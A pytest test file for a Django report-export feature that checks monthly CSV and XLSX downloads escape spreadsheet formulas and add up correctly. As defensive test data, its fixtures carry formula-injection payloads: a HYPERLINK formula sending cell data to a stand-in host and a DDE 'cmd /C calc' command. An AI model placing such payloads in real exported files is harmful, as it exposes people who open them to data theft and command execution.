"""The monthly report's downloads: one coded row per line, adding up like the page,
and typed text carried as text, never as a formula."""

from __future__ import annotations

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse

from blanko.formatting import place_name
from layanan import services as layanan_services
from layanan.models import CardPrint, ServiceRequest
from layanan.supervision import exports as report_exports
from tests.layanan.supervision import scenarios
from tests.layanan.supervision.scenarios import JAKARTA, Cause

pytestmark = pytest.mark.django_db
Kind = ServiceRequest.Kind

FORMULAS = {
    "address": '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "head_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "head_nip": "-2+3",
}


@pytest.fixture
def may(office, other_office, supervisor, other_supervisor):
    return scenarios.may(office, other_office, supervisor, other_supervisor)


@pytest.fixture
def hostile_office(office):
    for field, value in FORMULAS.items():
        setattr(office, field, value)
    office.save()
    return office


def test_every_text_cell_of_the_xlsx_report_is_text_not_a_formula(client, hostile_office,
                                                                  supervisor):
    client.force_login(supervisor)
    response = client.get(reverse("layanan:report_xlsx", args=[hostile_office.code, 2024, 5]))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    assert FORMULAS["address"] in texts
    assert texts[FORMULAS["address"]].data_type == "s"
    assert any(FORMULAS["head_name"] in value for value in texts)
    assert any(FORMULAS["head_nip"] in value for value in texts)
    # Excel keeps a typed "=" as text when the cell is edited, too.
    assert texts[FORMULAS["address"]].quotePrefix
    # The quantities stay numbers.
    assert any(cell.data_type == "n" and isinstance(cell.value, int) for cell in cells)


@pytest.mark.parametrize(("name", "place"), [
    ("Kota Batam", "Batam"), ("Kabupaten Bintan", "Bintan"), ("Kab. Lingga", "Lingga"),
    ("Disdukcapil Provinsi", "Disdukcapil Provinsi"),
])
def test_the_place_above_the_signature_is_the_town_without_its_kind(office, name, place):
    office.name = name
    assert place_name(office) == place


def test_the_files_are_named_by_office_and_month(office):
    report = type("Report", (), {"office": office, "month": datetime.date(2024, 5, 1)})()
    assert report_exports.filename(report, "csv") == "laporan-blanko-2172-2024-05.csv"
    assert report_exports.month_label(datetime.date(2024, 5, 1)) == "Mei 2024"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1"])
def test_a_csv_cell_that_a_spreadsheet_would_run_is_prefixed(value):
    assert report_exports.csv_safe(value) == "'" + value
    assert report_exports.csv_safe("Saldo awal") == "Saldo awal"
    assert report_exports.csv_safe(-5) == -5


def test_the_csv_report_carries_no_cell_a_spreadsheet_would_run(client, office, supervisor,
                                                                monkeypatch):
    real_rows = report_exports.report_rows
    monkeypatch.setattr(report_exports, "report_rows", lambda report: [
        *real_rows(report), ("partner.x", "=cmd|' /C calc'!A0", "+Pinjaman", 7)])
    client.force_login(supervisor)
    response = client.get(reverse("layanan:report_csv", args=[office.code, 2024, 5]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'+Pinjaman" in cells
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert rows[-1][-1] == "7"


# --- The May 2024 history, downloaded ---------------------------------------------------


def test_csv_export_has_one_coded_row_per_line(client, office, supervisor, may):
    client.force_login(supervisor)
    response = client.get(reverse("layanan:report_csv", args=[office.code, 2024, 5]))
    assert response["Content-Disposition"] == (
        'attachment; filename="laporan-blanko-2172-2024-05.csv"')
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    values = {row["kode"]: int(row["jumlah"]) for row in rows}
    assert {row["kantor"] for row in rows} == {"2172"}
    assert {row["bulan"] for row in rows} == {"2024-05"}
    assert (values["opening"], values["total_in"], values["total_out"], values["closing"]) == (
        895, 1090, 361, 1624)
    assert values["issued.recap"] == 100 and values["spoiled.closing"] == 3


def test_xlsx_export_opens_with_openpyxl_and_adds_up(client, office, supervisor, may):
    client.force_login(supervisor)
    response = client.get(reverse("layanan:report_xlsx", args=[office.code, 2024, 5]))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"] == (
        'attachment; filename="laporan-blanko-2172-2024-05.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = {row[0]: row[3] for row in sheet.iter_rows(values_only=True)
              if row[0] and len(row) > 3 and isinstance(row[3], int)}
    assert values["closing"] == values["opening"] + values["total_in"] - values["total_out"]
    assert (values["opening"], values["closing"]) == (895, 1624)
    lines_out = sum(quantity for code, quantity in values.items()
                    if code.split(".")[0] in {"out", "issued", "spoil"})
    assert lines_out == values["total_out"] == 361


def test_the_exports_and_page_show_a_card_found_defective(client, office, supervisor, may):
    printed = CardPrint.objects.filter(outcome=CardPrint.Outcome.SUCCESS,
                                       request__kind=Kind.DAMAGED).get()
    layanan_services.record_defective_card(
        request=printed.request, by=may["operator"], cause=Cause.INVALID,
        at=datetime.datetime(2024, 6, 3, 10, tzinfo=JAKARTA))
    client.force_login(supervisor)
    response = client.get(reverse("layanan:report_csv", args=[office.code, 2024, 6]))
    values = {row["kode"]: int(row["jumlah"]) for row in
              csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))}
    assert (values["issued.defective"], values["spoil.invalid"], values["total_out"]) == (
        -1, 1, 0)
    response = client.get(reverse("layanan:report_xlsx", args=[office.code, 2024, 6]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = {row[0]: row[3] for row in sheet.iter_rows(values_only=True)
              if row[0] and len(row) > 3 and isinstance(row[3], int)}
    assert (values["issued.defective"], values["spoil.invalid"]) == (-1, 1)
    assert values["closing"] == values["opening"] + values["total_in"] - values["total_out"]
    page = client.get(reverse("layanan:report", args=[office.code, 2024, 6])).content.decode()
    assert "Dikurangi: kartu rusak setelah dicetak" in page
